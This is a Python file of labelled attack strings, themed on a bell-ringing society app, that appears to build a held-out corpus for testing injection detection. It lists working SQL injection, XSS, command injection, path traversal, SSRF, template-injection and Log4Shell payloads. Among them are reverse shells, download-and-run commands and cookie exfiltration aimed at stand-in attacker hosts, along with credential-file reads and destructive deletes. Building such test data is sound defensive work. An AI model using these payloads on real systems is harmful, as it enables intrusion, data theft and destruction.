#!/usr/bin/env python3
"""Attack values for the bellringers held-out corpus (church bell-ringing society app).

All literals hand-written for this theme. A small share is generated: hand-written payload
pools joined to hand-written theme prefixes, and percent-encoding of every byte once
(class suffix "+urlencode", sqli/traversal only).
"""
import json
import os
import random

SEED = 24702
HERE = os.path.dirname(os.path.abspath(__file__))

A = {}

# ------------------------------------------------------------------ sqli
A["sqli"] = [
    ("union-based", "St Mary' UNION SELECT username, password_hash, NULL FROM ringers--"),
    ("union-based", "grandsire' union all select 1,email,pw,4,5 from users-- -"),
    ("union-based", "5040') UNION SELECT table_name,NULL,NULL FROM information_schema.tables WHERE table_schema=database()#"),
    ("union-based", "-1 UNION SELECT group_concat(name,0x3a,api_token),2,3 FROM society_admins"),
    ("union-based", "Oxford%' UnIoN SeLeCt null,concat(login,':',passwd),null FROM members-- x"),
    ("union-based", "Cambridge S Major' UNION SELECT sqlite_version(),sql,3 FROM sqlite_master--"),
    ("union-based", "tower') union select version(),current_user,3,4,5 --"),
    ("union-based", "0 union/**/select/**/1,load_file('/etc/passwd'),3"),
    ("union-based", "x' UNION SELECT NULL,string_agg(email||':'||password,','),NULL FROM ringer_accounts--"),
    ("union-based", "1260' /*!50000UNION*/ /*!50000SELECT*/ 1,user(),3-- -"),
    ("boolean-blind", "St Giles' AND 1=1-- "),
    ("boolean-blind", "St Giles' AND 'a'='b"),
    ("boolean-blind", "12345 AND (SELECT SUBSTRING(password,1,1) FROM ringers WHERE id=1)='a'"),
    ("boolean-blind", "Holy Trinity' AND ASCII(SUBSTR((SELECT pw FROM users LIMIT 1),1,1))>77--"),
    ("boolean-blind", "' OR '1'='1"),
    ("boolean-blind", "anne' OR 1=1 LIMIT 1-- "),
    ("boolean-blind", "admin'--"),
    ("boolean-blind", "Plain Bob\" OR \"x\"=\"x"),
    ("boolean-blind", "peal_id=7 OR 2>1"),
    ("boolean-blind", "x' or not 0 #"),
    ("boolean-blind", "Bristol') OR ('z'='z"),
    ("boolean-blind", "8 AND EXISTS(SELECT * FROM ringers WHERE role='admin' AND pw LIKE 'a%')"),
    ("time-blind", "St Mary' AND SLEEP(5)-- -"),
    ("time-blind", "1260' AND (SELECT 1 FROM (SELECT SLEEP(7))x)-- "),
    ("time-blind", "stedman'; SELECT pg_sleep(10)--"),
    ("time-blind", "oxford'; WAITFOR DELAY '0:0:8'--"),
    ("time-blind", "1 AND IF(SUBSTRING(user(),1,1)='r',SLEEP(4),0)"),
    ("time-blind", "york' AND 1=(SELECT CASE WHEN (1=1) THEN pg_sleep(6) ELSE pg_sleep(0) END)--"),
    ("time-blind", "x' AND BENCHMARK(9000000,MD5('bell'))-- "),
    ("time-blind", "Kent' || (SELECT CASE WHEN 1=1 THEN randomblob(300000000) ELSE 1 END) || '"),
    ("time-blind", "2 AnD sLeEp(6)"),
    ("time-blind", "Ely' AND 4821=DBMS_PIPE.RECEIVE_MESSAGE('q',6) AND 'a'='a"),
    ("error-based", "St Mary' AND extractvalue(1,concat(0x7e,(SELECT password FROM users LIMIT 1)))-- "),
    ("error-based", "1 AND updatexml(1,concat(0x2e,version()),1)"),
    ("error-based", "tower' AND 1=CONVERT(int,(SELECT TOP 1 password FROM ringers))--"),
    ("error-based", "x' AND 1=CAST((SELECT string_agg(usename,',') FROM pg_user) AS int)--"),
    ("error-based", "1' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(database(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- "),
    ("error-based", "Ludlow' AND ROW(1,1)>(SELECT COUNT(*),CONCAT(user(),0x3a,FLOOR(RAND()*2))x FROM mysql.user GROUP BY x)-- "),
    ("stacked", "Tuesday practice'; DROP TABLE practice_logs;--"),
    ("stacked", "1260; UPDATE ringers SET role='admin' WHERE email='mallory@attacker.example';--"),
    ("stacked", "Grandsire'); INSERT INTO society_admins(login,pw) VALUES('mallory','x');--"),
    ("stacked", "x'; EXEC xp_cmdshell 'powershell -c iwr http://attacker.example/r.ps1|iex';--"),
    ("stacked", "5040; COPY (SELECT '') TO PROGRAM 'curl 203.0.113.9/s|sh';--"),
    ("stacked", "tower'; DELETE FROM peal_records WHERE 1=1; --"),
    ("stacked", "ringers'; ATTACH DATABASE '/var/www/html/x.php' AS p; CREATE TABLE p.t(c text); INSERT INTO p.t VALUES('<?php system($_GET[0]); ?>');--"),
    ("stacked", "1; SELECT '<?php passthru($_GET[c]);?>' INTO OUTFILE '/var/www/html/bell.php'"),
    ("stacked", "St Giles'; GRANT ALL PRIVILEGES ON *.* TO 'mallory'@'%';--"),
    ("comment-obfuscation", "St/**/Mary'/**/UNION/**/SELECT/**/password/**/FROM/**/ringers--"),
    ("comment-obfuscation", "1260'/*bell*/OR/*ring*/1/*x*/=/*y*/1--"),
    ("comment-obfuscation", "x'%0aUNION%0aSELECT%0a1,2,3--"),
    ("comment-obfuscation", "0'\tor\t'1'\t=\t'1"),
    ("comment-obfuscation", "5040 UNION(SELECT(password)FROM(ringers))"),
    ("comment-obfuscation", "York'||(SELECT/**/password/**/FROM/**/users/**/WHERE/**/id=1)||'"),
    ("comment-obfuscation", "'/*!OR*/1-- -"),
    ("comment-obfuscation", "Stedman'-- \n UNION SELECT login,pw FROM members-- "),
    ("encoded", "St Mary%2527%2520OR%25201%253D1--"),
    ("encoded", "%27%20uNiOn%20sElEcT%20password%2C2%20FROM%20ringers--"),
    ("encoded", "peal\uff07 OR \uff071\uff07=\uff071"),
    ("encoded", "x%bf%27 OR 1=1-- "),
    ("encoded", "Oxford&#39; UNION SELECT pw FROM users--"),
    ("encoded", "\\u0027 or 1=1--"),
    ("encoded", "0x27206f7220313d31 -- 1260' OR 0x31=0x31-- "),
    ("encoded", "St Mary' AND CHAR(97)+CHAR(100)+CHAR(109)=CHAR(97)+CHAR(100)+CHAR(109)--"),
    ("second-order", "Jim O'Hara', role='admin' WHERE name LIKE '%"),
    ("second-order", "anne.ringer'; UPDATE users SET pw='x' WHERE login='captain'-- "),
    ("second-order", "Method name: Bob' || (SELECT api_key FROM settings) || '"),
    ("second-order", "St Peter' WHERE 0=1 UNION SELECT pw FROM users WHERE 'a'='a"),
    ("order-by", "date, (CASE WHEN (SELECT substr(pw,1,1) FROM users WHERE id=1)='a' THEN changes ELSE tower END)"),
    ("order-by", "changes DESC, IF((SELECT COUNT(*) FROM society_admins)>0,sleep(5),1)"),
    ("order-by", "tower ASC;SELECT pg_sleep(5)"),
    ("order-by", "1,(select 1 from (select(sleep(6)))a)"),
    ("order-by", "(SELECT 1 UNION SELECT 2) -- order by injection in peal sort"),
    ("auth-bypass", "captain@st-marys.example.org'-- "),
    ("auth-bypass", "' OR 1=1 ORDER BY id LIMIT 1#"),
    ("auth-bypass", "admin') OR ('1'='1'-- "),
    ("auth-bypass", "\" or \"\"=\""),
]

# ------------------------------------------------------------------ xss
A["xss"] = [
    ("script-tag", "Great practice! <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("script-tag", "Plain Bob Doubles<script src=//attacker.example/b.js></script>"),
    ("script-tag", "<ScRiPt>new Image().src='//203.0.113.7/?c='+encodeURIComponent(document.cookie)</sCrIpT>"),
    ("script-tag", "St Mary's <script>alert(document.domain)</script> tower"),
    ("script-tag", "<script>/*bell*/eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS8nKQ=='))</script>"),
    ("script-tag", "<script\n>location='https://attacker.example/?'+localStorage.getItem('token')</script\n>"),
    ("script-tag", "</textarea><script>document.forms[0].action='https://attacker.example/steal'</script>"),
    ("script-tag", "</title><script>alert(1)</script>"),
    ("event-handler", "<img src=x onerror=alert(document.cookie)>"),
    ("event-handler", "Peal photo <img src=\"bells.jpg\" onerror=\"this.src='//attacker.example/?'+document.cookie\">"),
    ("event-handler", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
    ("event-handler", "<body onload=alert('ringers')>"),
    ("event-handler", "<details open ontoggle=alert(1)>Tower notes</details>"),
    ("event-handler", "<input autofocus onfocus=alert(document.domain) value=\"Grandsire\">"),
    ("event-handler", "<video><source onerror=\"alert(1)\"></video>"),
    ("event-handler", "<marquee onstart=alert`bell`>Peal!</marquee>"),
    ("event-handler", "<div style=\"width:100%;height:100%\" onmouseover=\"alert(1)\">hover for touch</div>"),
    ("event-handler", "<audio src=/nope onerror=import('//attacker.example/m.js')>"),
    ("event-handler", "<iframe onload=alert(origin) src=about:blank></iframe>"),
    ("event-handler", "<object data=x onerror=alert(2)>"),
    ("event-handler", "<select autofocus onfocus=alert(1)><option>Stedman</option></select>"),
    ("event-handler", "<a href=# onclick=\"fetch('//attacker.example/?'+document.cookie)\">BellBoard link</a>"),
    ("event-handler", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("event-handler", "<textarea autofocus onfocus=alert(1)>"),
    ("attribute-breakout", "\" onmouseover=\"alert(1)"),
    ("attribute-breakout", "St Giles\" autofocus onfocus=\"alert(document.cookie)\" x=\""),
    ("attribute-breakout", "' onfocus='alert(1)' autofocus='"),
    ("attribute-breakout", "\"><img src=x onerror=alert(1)>"),
    ("attribute-breakout", "Kent TB'><svg/onload=alert(1)>"),
    ("attribute-breakout", "x\" style=\"position:fixed;inset:0\" onmousemove=\"alert(1)"),
    ("attribute-breakout", "bells.jpg\" onload=\"fetch('//attacker.example/x?'+document.cookie)"),
    ("js-context", "';alert(document.cookie);//"),
    ("js-context", "\";fetch('//attacker.example/'+document.cookie);//"),
    ("js-context", "</script><script>alert(1)</script>"),
    ("js-context", "Stedman\\';alert(1);//"),
    ("js-context", "${alert(document.domain)}"),
    ("js-context", "'-alert(1)-'"),
    ("js-context", "\"+alert(1)+\""),
    ("url-scheme", "javascript:alert(document.cookie)"),
    ("url-scheme", "JaVaScRiPt:fetch('//attacker.example/?'+document.cookie)"),
    ("url-scheme", "java\tscript:alert(1)"),
    ("url-scheme", "javascript&colon;alert(1)"),
    ("url-scheme", "&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)"),
    ("url-scheme", "data:text/html;base64,PHNjcmlwdD5hbGVydCgnYmVsbHMnKTwvc2NyaXB0Pg=="),
    ("url-scheme", "<a href=\"javascript:void(fetch('//attacker.example/'+document.cookie))\">Tower website</a>"),
    ("url-scheme", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("url-scheme", "[Tower map](javascript:alert(document.cookie))"),
    ("url-scheme", "<form action=javascript:alert(1)><button>Book the tower</button></form>"),
    ("url-scheme", "<embed src=\"data:image/svg+xml,<svg onload=alert(1) xmlns='http://www.w3.org/2000/svg'/>\">"),
    ("encoded", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("encoded", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("encoded", "&lt;img src=x onerror=alert(1)&gt;"),
    ("encoded", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("encoded", "<img src=x onerror=\"\\u0061lert(1)\">"),
    ("encoded", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"),
    ("encoded", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("encoded", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("encoded", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("encoded", "\\x3csvg onload=alert(1)\\x3e"),
    ("filter-evasion", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("filter-evasion", "<img/src=x/onerror=alert(1)>"),
    ("filter-evasion", "<svg/onload=alert&#40;1&#41;>"),
    ("filter-evasion", "<IMG SRC=x OnErRoR=top['al'+'ert'](1)>"),
    ("filter-evasion", "<img src=x onerror=window['ev'+'al']('ale'+'rt(1)')>"),
    ("filter-evasion", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("filter-evasion", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("filter-evasion", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("filter-evasion", "<img src=`x` onerror=alert`1`>"),
    ("filter-evasion", "<base href=\"https://attacker.example/\">"),
    ("filter-evasion", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"),
    ("filter-evasion", "<link rel=import href=\"//attacker.example/x.html\">"),
    ("filter-evasion", "<style>@import 'https://attacker.example/x.css';</style>"),
    ("dom-template", "{{constructor.constructor('alert(1)')()}}"),
    ("dom-template", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)></div>"),
    ("dom-template", "<div v-html=\"''.constructor.constructor('alert(1)')()\"></div>"),
    ("dom-template", "#<img src=x onerror=alert(location.hash)>"),
    ("svg-upload", "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
]

# ------------------------------------------------------------------ cmdi
A["cmdi"] = [
    ("separator", "peals_2024.csv; cat /etc/passwd"),
    ("separator", "towers.csv;id"),
    ("separator", "St Mary && curl http://attacker.example/x.sh | sh"),
    ("separator", "grandsire | nc 203.0.113.5 4444 -e /bin/sh"),
    ("separator", "oxford || wget -qO- http://198.51.100.20/b|bash"),
    ("separator", "report.pdf & whoami"),
    ("separator", "bells.png;uname -a;"),
    ("separator", "x|cat${IFS}/etc/shadow"),
    ("separator", "practice.txt\ncurl -s attacker.example/p|sh"),
    ("separator", "1260\r\nid"),
    ("separator", "backup.tar.gz; rm -rf /var/www/uploads/*"),
    ("separator", "tower.jpg;ping -c 3 203.0.113.44"),
    ("separator", "newsletter.html; mail -s pwd mallory@attacker.example < /etc/passwd"),
    ("separator", "peal && bash -i >& /dev/tcp/203.0.113.8/443 0>&1"),
    ("separator", "St Giles; python3 -c 'import os;os.system(\"id\")'"),
    ("separator", "x; perl -e 'use Socket;$i=\"198.51.100.7\";$p=9001;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'"),
    ("separator", "minutes.docx %0a id"),
    ("separator", "Ely;nslookup `whoami`.attacker.example"),
    ("separator", "photo.jpg | php -r '$s=fsockopen(\"203.0.113.12\",4242);exec(\"sh <&3 >&3\");'"),
    ("separator", "a.csv; busybox nc 198.51.100.3 1337 -e sh"),
    ("separator", "report; crontab -l | { cat; echo '* * * * * curl attacker.example/c|sh'; } | crontab -"),
    ("separator", "rota.xlsx & powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a')\""),
    ("separator", "rota.xlsx & type C:\\Windows\\win.ini"),
    ("separator", "tower | dir c:\\ & net user mallory P4ss /add"),
    ("substitution", "$(id)"),
    ("substitution", "Stedman $(curl -s http://attacker.example/$(whoami))"),
    ("substitution", "`cat /etc/passwd`"),
    ("substitution", "Peal `sleep 10` report"),
    ("substitution", "bells_$(sleep 7).csv"),
    ("substitution", "$(wget -O /tmp/r http://198.51.100.9/r;chmod +x /tmp/r;/tmp/r)"),
    ("substitution", "St Mary's$(echo${IFS}aWQ=|base64${IFS}-d|sh)"),
    ("substitution", "quarter-${IFS}$(id)"),
    ("substitution", "x$(dig +short $(hostname).attacker.example)"),
    ("substitution", "<(curl attacker.example/s)"),
    ("obfuscation", ";c'a't /e't'c/pa's'swd"),
    ("obfuscation", ";c\\at /et\\c/pas\\swd"),
    ("obfuscation", ";/???/c?t /???/p?ss??"),
    ("obfuscation", ";$'\\x63\\x61\\x74' /etc/passwd"),
    ("obfuscation", "|{cat,/etc/passwd}"),
    ("obfuscation", ";cat</etc/passwd"),
    ("obfuscation", ";a=ca;b=t;$a$b /etc/hostname"),
    ("obfuscation", ";${PATH:0:1}bin${PATH:0:1}id"),
    ("obfuscation", ";w$@hoami"),
    ("obfuscation", "|who''ami"),
    ("obfuscation", ";echo Y3VybCBhdHRhY2tlci5leGFtcGxlL3xzaA==|base64 -d|bash"),
    ("obfuscation", ";$(printf '\\151\\144')"),
    ("obfuscation", "%3Bcat%20%2Fetc%2Fpasswd"),
    ("obfuscation", "%26%26%20id"),
    ("obfuscation", ";c\"\"url${IFS}attacker.example/x|s\"\"h"),
    ("obfuscation", ";$(rev<<<'di')"),
    ("obfuscation", "|IFS=,;`cat<<<uname,-a`"),
    ("obfuscation", "& set /p=x<nul & c^m^d /c who^ami"),
    ("argument-injection", "--output=/var/www/html/shell.php http://attacker.example/s.txt"),
    ("argument-injection", "-oProxyCommand=curl${IFS}attacker.example/p|sh"),
    ("argument-injection", "--exec='sh -c id'"),
    ("argument-injection", "tower.pdf --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh"),
    ("argument-injection", "-o /etc/cron.d/bell http://198.51.100.4/cron"),
    ("argument-injection", "--use-compress-program='sh -c id'"),
    ("argument-injection", "-I'sh -c id' x"),
    ("argument-injection", "St Mary -exec /bin/sh -c id ;"),
    ("argument-injection", "--upload-file /etc/passwd http://attacker.example/"),
    ("argument-injection", "\"-F\" \"/tmp/x\" \"--to-command=sh -c id\""),
    ("imagemagick", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://attacker.example/x.png\"|id > /tmp/o\")'\npop graphic-context"),
    ("imagemagick", "tower.png'\"`id`\"'"),
    ("blind-timing", "Holt; sleep 9 #"),
    ("blind-timing", "Holt | ping -n 11 127.0.0.1"),
    ("blind-timing", "tenor& timeout /t 8 &"),
    ("blind-timing", "x || sleep 5 || "),
    ("env-injection", "() { :; }; /bin/bash -c 'curl attacker.example/ss|sh'"),
    ("env-injection", "() { _; } >_[$($())] { id; }"),
]

# ------------------------------------------------------------------ traversal
A["traversal"] = [
    ("dotdot", "../../../../etc/passwd"),
    ("dotdot", "uploads/peal_photos/../../../../etc/shadow"),
    ("dotdot", "..\\..\\..\\..\\Windows\\win.ini"),
    ("dotdot", "../../../../../../proc/self/environ"),
    ("dotdot", "newsletters/2024/../../../config/database.yml"),
    ("dotdot", "towers.csv/../../../../root/.ssh/id_rsa"),
    ("dotdot", "../../.env"),
    ("dotdot", "../../../../var/www/app/settings.py"),
    ("dotdot", "templates/../../../../etc/nginx/nginx.conf"),
    ("dotdot", "..\\..\\inetpub\\wwwroot\\web.config"),
    ("dotdot", "../../../../../home/ringer/.bash_history"),
    ("dotdot", "methods/../../../../proc/self/cmdline"),
    ("dotdot", "../../../../../../../../../../etc/hosts"),
    ("dotdot", "../WEB-INF/web.xml"),
    ("dotdot", "exports/../../../../../etc/ssh/sshd_config"),
    ("dotdot", "..//..//..//..//etc//passwd"),
    ("dotdot", "....//....//....//etc/passwd"),
    ("dotdot", "..././..././..././etc/group"),
    ("dotdot", "....\\\\....\\\\....\\\\windows\\\\system.ini"),
    ("dotdot", "/var/www/uploads/../../../etc/passwd"),
    ("dotdot", "peal-board.jpg/..;/..;/..;/etc/passwd"),
    ("encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    ("encoded", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("encoded", "..%2f..%2f..%2f..%2fetc/shadow"),
    ("encoded", "%2e%2e/%2e%2e/%2e%2e/proc/self/environ"),
    ("encoded", "..%5c..%5c..%5cwindows%5cwin.ini"),
    ("encoded", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("encoded", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("encoded", "..%e0%80%af..%e0%80%afetc/passwd"),
    ("encoded", "%u002e%u002e%u2215%u002e%u002e%u2215etc%u2215passwd"),
    ("encoded", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd"),
    ("encoded", "..%252f..%252f..%252fconfig%252fsecrets.json"),
    ("encoded", "photos/%2e%2e%5c%2e%2e%5c%2e%2e%5cboot.ini"),
    ("null-byte", "../../../../etc/passwd%00.jpg"),
    ("null-byte", "../../../etc/shadow\\u0000.csv"),
    ("null-byte", "newsletter_spring.pdf/../../../../etc/passwd%00"),
    ("absolute", "/etc/passwd"),
    ("absolute", "file:///etc/passwd"),
    ("absolute", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("absolute", "/proc/self/fd/3"),
    ("absolute", "\\\\198.51.100.23\\share\\bells.csv"),
    ("absolute", "/root/.aws/credentials"),
    ("wrapper", "php://filter/convert.base64-encode/resource=../config.php"),
    ("wrapper", "php://filter/read=string.rot13/resource=index.php"),
    ("wrapper", "zip://uploads/towers.zip%23shell.php"),
    ("wrapper", "phar://uploads/peal_photo.jpg/x"),
    ("wrapper", "expect://id"),
]

# ------------------------------------------------------------------ ssrf
A["ssrf"] = [
    ("cloud-metadata", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("cloud-metadata", "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token"),
    ("cloud-metadata", "http://metadata.google.internal/computeMetadata/v1/?recursive=true"),
    ("cloud-metadata", "http://169.254.169.254/metadata/instance?api-version=2021-02-01"),
    ("cloud-metadata", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("cloud-metadata", "http://100.100.100.200/latest/meta-data/ram/security-credentials/"),
    ("cloud-metadata", "http://169.254.170.2/v2/credentials"),
    ("loopback", "http://127.0.0.1:8080/admin/ringers/export"),
    ("loopback", "http://localhost:6379/"),
    ("loopback", "http://localhost/server-status"),
    ("loopback", "https://127.0.0.1:9200/_cat/indices"),
    ("loopback", "http://[::1]:2375/containers/json"),
    ("loopback", "http://0.0.0.0:5000/debug/console"),
    ("loopback", "http://127.1/admin"),
    ("loopback", "http://127.0.0.1:15672/api/users"),
    ("internal-network", "http://10.0.0.12:8500/v1/kv/?recurse"),
    ("internal-network", "http://192.168.1.1/cgi-bin/luci"),
    ("internal-network", "http://172.17.0.1:2379/v2/keys/"),
    ("internal-network", "http://db.internal:5984/_all_dbs"),
    ("internal-network", "http://kubernetes.default.svc/api/v1/namespaces/default/secrets"),
    ("internal-network", "http://jenkins.corp.local:8080/script"),
    ("internal-network", "http://10.1.2.3:10250/pods"),
    ("alt-ip", "http://2130706433/admin"),
    ("alt-ip", "http://0x7f000001/"),
    ("alt-ip", "http://0177.0.0.1/"),
    ("alt-ip", "http://0xa9fea9fe/latest/meta-data/"),
    ("alt-ip", "http://2852039166/latest/user-data"),
    ("alt-ip", "http://[::ffff:127.0.0.1]:8080/"),
    ("alt-ip", "http://[0:0:0:0:0:ffff:a9fe:a9fe]/latest/meta-data/"),
    ("alt-ip", "http://0251.0376.0251.0376/"),
    ("alt-ip", "http://①②⑦.⓪.⓪.①/admin"),
    ("alt-ip", "http://127.0.0.1.nip.io:8080/"),
    ("alt-ip", "http://localtest.me/admin"),
    ("parser-confusion", "http://bellboard.example.org@127.0.0.1/admin"),
    ("parser-confusion", "https://attacker.example#@ringingworld.co.uk/"),
    ("parser-confusion", "http://127.0.0.1:80\\@www.example.org/"),
    ("parser-confusion", "http://169.254.169.254%2f@photos.example.com/"),
    ("parser-confusion", "http://ringingworld.co.uk.attacker.example/redirect?to=http://169.254.169.254/"),
    ("parser-confusion", "https://attacker.example/r?u=http%3A%2F%2F127.0.0.1%3A8080%2Fadmin"),
    ("parser-confusion", "http://rebind.attacker.example:8080/internal/peals"),
    ("scheme", "gopher://127.0.0.1:6379/_SET%20x%20%22bells%22%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A"),
    ("scheme", "gopher://localhost:25/_HELO%20x%0D%0AMAIL%20FROM%3A%3Cm%40attacker.example%3E"),
    ("scheme", "dict://127.0.0.1:11211/stats"),
    ("scheme", "file:///proc/self/environ"),
    ("scheme", "ftp://10.0.0.5/backups/ringers.sql"),
    ("scheme", "ldap://127.0.0.1:389/dc=internal"),
    ("scheme", "jar:http://attacker.example/x.jar!/"),
    ("scheme", "netdoc:///etc/passwd"),
    ("embedded", "<img src=\"http://169.254.169.254/latest/meta-data/\"> tower photo for PDF export"),
    ("embedded", "{\"webhook_url\": \"http://127.0.0.1:8001/api/v1/namespaces\"}"),
]

# ------------------------------------------------------------------ code
A["code"] = [
    ("ssti-jinja", "{{ config.items() }}"),
    ("ssti-jinja", "Dear {{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
    ("ssti-jinja", "{{ cycler.__init__.__globals__.os.popen('curl attacker.example/x|sh').read() }}"),
    ("ssti-jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("ssti-jinja", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='Popen' %}{{ c(['id'],stdout=-1).communicate() }}{% endif %}{% endfor %}"),
    ("ssti-jinja", "{{ request.application.__globals__.__builtins__.open('/etc/passwd').read() }}"),
    ("ssti-jinja", "{{ lipsum.__globals__['os'].popen('whoami').read() }}"),
    ("ssti-jinja", "{{ namespace.__init__.__globals__.os.environ }}"),
    ("ssti-jinja", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
    ("ssti-jinja", "{{7*'7'}} {{ url_for.__globals__.current_app.config.SECRET_KEY }}"),
    ("ssti-twig", "{{ _self.env.registerUndefinedFilterCallback('system') }}{{ _self.env.getFilter('id') }}"),
    ("ssti-twig", "{{ ['id']|filter('system') }}"),
    ("ssti-twig", "{{ ['cat /etc/passwd']|map('passthru')|join }}"),
    ("ssti-freemarker", "<#assign ex='freemarker.template.utility.Execute'?new()>${ ex('id') }"),
    ("ssti-freemarker", "${'freemarker.template.utility.ObjectConstructor'?new()('java.lang.ProcessBuilder',['id']).start()}"),
    ("ssti-velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
    ("ssti-erb", "<%= `id` %>"),
    ("ssti-erb", "<%= File.read('/etc/passwd') %>"),
    ("ssti-erb", "<%= system('curl attacker.example/r|sh') %>"),
    ("ssti-smarty", "{system('id')}"),
    ("ssti-smarty", "{php}echo shell_exec('id');{/php}"),
    ("ssti-handlebars", "{{#with \"s\" as |string|}}{{#with string.constructor}}{{#with (bind this \"return process.mainModule.require('child_process').execSync('id')\")}}{{this}}{{/with}}{{/with}}{{/with}}"),
    ("ssti-pug", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ssti-ejs", "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>"),
    ("ssti-mako", "${__import__('os').popen('id').read()}"),
    ("ssti-tornado", "{% import os %}{{ os.popen('id').read() }}"),
    ("ssti-razor", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("el-injection", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
    ("el-injection", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("el-injection", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}"),
    ("el-injection", "${pageContext.request.getSession().setAttribute('admin',true)}"),
    ("el-injection", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("el-injection", "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('id')}"),
    ("el-injection", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('id').getInputStream()).next()}__::.x"),
    ("eval-injection", "__import__('os').system('id')"),
    ("eval-injection", "1260 + __import__('subprocess').check_output(['cat','/etc/passwd'])"),
    ("eval-injection", "require('child_process').exec('curl attacker.example/s|sh')"),
    ("eval-injection", "process.mainModule.require('fs').readFileSync('/etc/passwd','utf8')"),
    ("eval-injection", "');system('id');//"),
    ("eval-injection", "\".system('id').\""),
    ("eval-injection", "${@eval($_POST['bell'])}"),
    ("eval-injection", "<?php system($_GET['cmd']); ?>"),
    ("eval-injection", "<?=`$_GET[0]`?>"),
    ("eval-injection", "eval(compile('import socket,os;s=socket.socket();s.connect((\"203.0.113.30\",4444));os.dup2(s.fileno(),0)','x','exec'))"),
    ("eval-injection", "(function(){return this})().process.binding('spawn_sync')"),
    ("eval-injection", "Function('return process')().mainModule.require('child_process').execSync('id')"),
    ("eval-injection", "[].constructor.constructor('return process.env')()"),
    ("log4shell", "${jndi:ldap://attacker.example:1389/peal}"),
    ("log4shell", "Grandsire ${jndi:rmi://203.0.113.40/o}"),
    ("log4shell", "${${lower:j}ndi:${lower:l}dap://attacker.example/a}"),
    ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://198.51.100.2/x}"),
    ("log4shell", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.attacker.example}"),
    ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//attacker.example/z}"),
    ("log4shell", "${jndi:ldaps://t.attacker.example/${sys:java.version}}"),
    ("proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("proto-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"captain\"}}}"),
    ("proto-pollution", "__proto__[isAdmin]=true"),
    ("proto-pollution", "constructor[prototype][outputFunctionName]=x;process.mainModule.require('child_process').execSync('id');//"),
    ("proto-pollution", "{\"settings\": {\"__proto__\": {\"shell\": \"/bin/sh\", \"NODE_OPTIONS\": \"--require /proc/self/environ\"}}}"),
    ("proto-pollution", "__proto__.sourceURL=\\u000areturn process.mainModule.require('child_process').execSync('id')"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "=HYPERLINK(\"https://attacker.example/?d=\"&A1&B1,\"Tower list\")"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C powershell iwr attacker.example'!A0"),
    ("csv-formula", "+cmd|'/c notepad'!_xlbgnm.A1"),
    ("csv-formula", "-2+3+cmd|' /C calc'!A0"),
